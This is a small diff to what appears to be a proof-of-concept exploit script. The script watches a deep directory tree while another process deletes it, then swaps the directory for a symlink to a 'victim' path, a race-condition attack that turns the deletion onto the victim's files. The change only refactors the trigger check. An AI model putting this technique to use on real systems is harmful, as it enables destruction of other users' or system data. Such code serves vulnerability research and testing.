@@ -23,7 +23,8 @@ for name in range(64):
 print("ready", flush=True)
 while True:
     try:
-        if len(os.listdir(inside)) < 64 or len(os.listdir(f"{inside}/0")) < 300 or len(os.listdir(f"{inside}/63")) < 300:
+        below = min(len(os.listdir(f"{inside}/{number}")) for number in (0, 63))
+        if len(os.listdir(inside)) < 64 or below < 300:
             os.rename(inside, tree + "/bbb")
             os.symlink(victim, inside)
             break
